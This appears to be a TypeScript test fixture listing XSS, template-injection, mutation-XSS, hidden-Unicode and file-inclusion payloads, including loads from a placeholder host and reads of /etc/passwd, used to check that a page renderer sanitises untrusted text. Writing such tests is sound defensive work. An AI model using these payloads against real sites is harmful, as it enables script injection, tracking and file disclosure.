/** Texts with which strangers would run script, load something, or hide something, wherever a page puts them. */

/** The host that no page may ask for anything. */
export const ELSEWHERE = 'https://elsewhere.invalid';

/** Each takes the call of the function that the tests listen to. */
export const PAYLOADS: Readonly<Record<string, (hit: string) => string>> = {
  script: (hit) => `</script><script>${hit}</script>`,
  image: (hit) => `<img src=x onerror=${hit}>`,
  attribute: (hit) => `"><svg onload=${hit}>`,
  apostrophe: (hit) => `' onmouseover='${hit}' autofocus tabindex=0 onfocus='${hit}' x='`,
  address: (hit) => `javascript:${hit}`,
  markdown: (hit) => `[a](javascript:${hit}) ![b](${ELSEWHERE}/b.png) <javascript:${hit}> [c]: data:text/html,x`,
  images: () =>
    `<img src="${ELSEWHERE}/c.png"><img src="//elsewhere.invalid/d.png"><img src="/\\elsewhere.invalid/e.png"><img src="x" srcset="${ELSEWHERE}/f.png 1x"><picture><source srcset="${ELSEWHERE}/g.png"><img src="x"></picture>`,
  media: () =>
    `<video poster="${ELSEWHERE}/a.png" src="${ELSEWHERE}/a.mp4" autoplay></video><audio src="${ELSEWHERE}/a.mp3" preload=auto></audio><svg><image href="${ELSEWHERE}/i.png" /></svg>`,
  title: (hit) => `</title><script>${hit}</script>`,
  comment: (hit) => `<!--<script>${hit}`,
  'end of comment': (hit) => `--><script>${hit}</script><!--`,
  style: () => `</style><style>@import "${ELSEWHERE}/a.css"; body { background: url(${ELSEWHERE}/b) }</style><style>`,
  expression: (hit) => `{${hit}} \${${hit}} {{constructor.constructor('${hit}')()}} <%= ${hit} %>`,
  module: (hit) =>
    `a\n\nimport x from "${ELSEWHERE}/x.js"\n\nexport const y = ${hit}\n\n<Head><script>{${hit}}</script></Head>`,
  frame: (hit) =>
    `<iframe srcdoc="<script>parent.${hit}</script>" src="${ELSEWHERE}/"></iframe><object data="${ELSEWHERE}/"></object><embed src="${ELSEWHERE}/">`,
  head: () =>
    `<link rel=stylesheet href=${ELSEWHERE}/a.css><link rel=preconnect href=${ELSEWHERE}><meta http-equiv=refresh content="0;url=${ELSEWHERE}/"><base href=${ELSEWHERE}/>`,
  form: (hit) => `<form action=${ELSEWHERE}/><input autofocus onfocus=${hit}></form><details open ontoggle=${hit}>a`,
  json: (hit) => `"}</script><script>${hit}</script>{"\\u003c/script>`,
  'front matter': (hit) => `"\n---\n\n<script>${hit}</script>\n\n---\ntitle: {${hit}}`,
  directive: (hit) => `a\n\n:::tip[<img src=x onerror=${hit}>]\n\n<script>${hit}</script>\n\n:::\n`,
  mutation: (hit) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit}&gt;">`,
  svg: (hit) => `<svg><a xlink:href="javascript:${hit}"><text>a</text></a><script>${hit}</script></svg>`,
  'other scheme': (hit) => `<a href=" java&#10;script:${hit}" style="background:url(${ELSEWHERE}/s)">a</a>`,
  code: (hit) => `*/${hit}/* \`);${hit};(\` ';${hit};' ";${hit};"`,
  fence: (hit) => `\`\`\`html\n</code></pre><img src=x onerror=${hit}>\n\`\`\`\n\`</code><img src=x onerror=${hit}>\``,
  encoded: (hit) => `]]>&#x3C;script&#x3E;${hit}&lt;/script&gt; %3Cscript%3E${hit}%3C/script%3E \\x3cscript>`,
  replacement: (hit) => `$& $\` $' $1 $<a> $$</script><script>${hit}</script>`,
  hidden: () =>
    'a\0b\u0001c\u001B[31md\u007Fe\u0085f\u200Eg\u200Fh\u061Ci\u202Ej\u202Ck\u2066l\u2069m\u2028n\u2029o\uFEFFpq\u{E0041}r',
  'half a surrogate pair': () => 'a\uD800b \uDC00',
  'hidden as entities': () => 'a &#x202E; b &#8238; c &#x2066; d &#0; e &#x200F; f',
  include: () =>
    '!include /etc/passwd {{> ../../canary.yaml}} ```yaml file="../../canary.yaml"\n``` <<< ../../canary.yaml @import "/etc/passwd"',
};
